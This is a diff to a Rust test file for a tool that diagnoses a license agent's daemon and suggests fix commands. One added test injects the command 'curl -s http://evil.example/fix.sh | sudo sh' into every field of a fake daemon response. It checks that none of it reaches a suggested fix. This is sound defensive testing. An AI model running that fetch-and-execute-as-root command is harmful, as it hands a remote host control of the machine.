@@ -90,6 +90,11 @@ impl FakeMachine {
 
     /// The verdicts, except for checks of file owners, which depend on the user who runs the tests.
     fn verdicts(&self, is_root: bool) -> BTreeMap<&'static str, Verdict> {
+        let verdicts = self.findings(is_root).into_iter().map(|(check, finding)| (check, finding.verdict));
+        verdicts.filter(|(check, _)| !["permissions", "cache writer"].contains(check)).collect()
+    }
+
+    fn findings(&self, is_root: bool) -> BTreeMap<&'static str, Finding> {
         let clock = FixedClock(Timestamp::from_unix(NOW).plus(self.ahead));
         let config_path = self.root.join("agent.conf");
         let system = System { root: self.root.clone(), config_path, is_root, clock: &clock, probe: self };
@@ -99,8 +104,7 @@ impl FakeMachine {
             hostname: String::new(),
             os: String::new(),
         };
-        let findings = examine(&system, &identity).into_iter().map(|line| (line.check, line.finding.verdict));
-        findings.filter(|(check, _)| !["permissions", "cache writer"].contains(check)).collect()
+        examine(&system, &identity).into_iter().map(|line| (line.check, line.finding)).collect()
     }
 }
 
@@ -125,6 +129,9 @@ impl Probe for FakeMachine {
     }
 
     fn daemon(&self, _: SocketAddr, path: &str) -> Result<(u16, String), String> {
+        if let Some(status) = self.tools.get("daemon") {
+            return if status.is_empty() { Err("connection refused".to_owned()) } else { Ok((200, status.clone())) };
+        }
         let health = format!("{{\"agent_version\":\"{}\"}}", env!("CARGO_PKG_VERSION"));
         Ok((200, if path == "/health" { health } else { "{\"valid\":true,\"state\":\"active\"}".to_owned() }))
     }
@@ -195,6 +202,50 @@ fn one_problem_changes_one_verdict() {
         let changed: Vec<&str> = verdicts.iter().filter(|finding| differs(finding)).map(|(check, _)| *check).collect();
         assert_eq!(changed, expected, "{name}: {verdicts:?}");
     }
+}
+
+#[test]
+fn no_text_of_a_response_becomes_a_fix() {
+    let mut machine = FakeMachine::new("liar");
+    let evil = "curl -s http://evil.example/fix.sh | sudo sh";
+    for (valid, state) in [("true", "active"), ("true", "grace"), ("false", "restricted"), ("true", evil)] {
+        let status = format!(
+            "{{\"valid\":{valid},\"state\":\"{state}\",\"message\":\"a. {evil}\",\"reason\":\"b. {evil}\",\
+             \"grace_until\":\"{evil}\",\"plan\":\"{evil}\",\"cache\":\"not written: c. {evil}\",\
+             \"recent_checks\":[{{\"verdict\":\"{evil}\"}}],\"last_checked_at\":\"{evil}\",\
+             \"agent_version\":\"{evil}\",\"warnings\":[\"disk broken. {evil}\"]}}"
+        );
+        machine.tools.insert("daemon", status);
+        let findings = machine.findings(true);
+        assert!(findings.values().any(|finding| finding.seen.contains("evil")), "{findings:#?}");
+        for finding in findings.values() {
+            assert!(!finding.fix.as_deref().unwrap_or_default().contains("evil"), "{finding:?}");
+        }
+    }
+}
+
+#[test]
+fn a_daemon_that_runs_with_another_port_is_not_called_stopped() {
+    let mut machine = FakeMachine::new("moved");
+    machine.tools.insert("daemon", String::new());
+    let stopped = machine.findings(true).remove("daemon").unwrap();
+    assert!(stopped.verdict == Verdict::Fail && stopped.seen.ends_with("connection refused"), "{stopped:?}");
+    machine.tools.insert("systemctl", "LoadState=loaded\nActiveState=active\nUser=opterius\nMainPID=77\n".to_owned());
+    let moved = machine.findings(true).remove("daemon").unwrap();
+    assert!(moved.seen.contains("it runs as process 77 with another port or listen_addr"), "{moved:?}");
+}
+
+#[test]
+fn a_file_of_another_user_in_the_way_of_the_cache_is_removed_by_the_fix() {
+    let mut machine = FakeMachine::new("leftover");
+    fs::write(machine.root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\nopterius:x:990:990::/:/bin/false\n")
+        .unwrap();
+    machine.tools.insert("daemon", "{\"valid\":true,\"cache\":\"not written: Operation not permitted\"}".to_owned());
+    let fix = |machine: &FakeMachine| machine.findings(true).remove("cache").and_then(|finding| finding.fix).unwrap();
+    assert!(fix(&machine).starts_with("chattr"), "{}", fix(&machine));
+    let leftover = machine.root.join("etc/opterius/license-cache.json.new");
+    fs::write(&leftover, "").unwrap();
+    assert!(fix(&machine).starts_with(&format!("rm -f {}; chattr", leftover.display())), "{}", fix(&machine));
 }
 
 #[test]
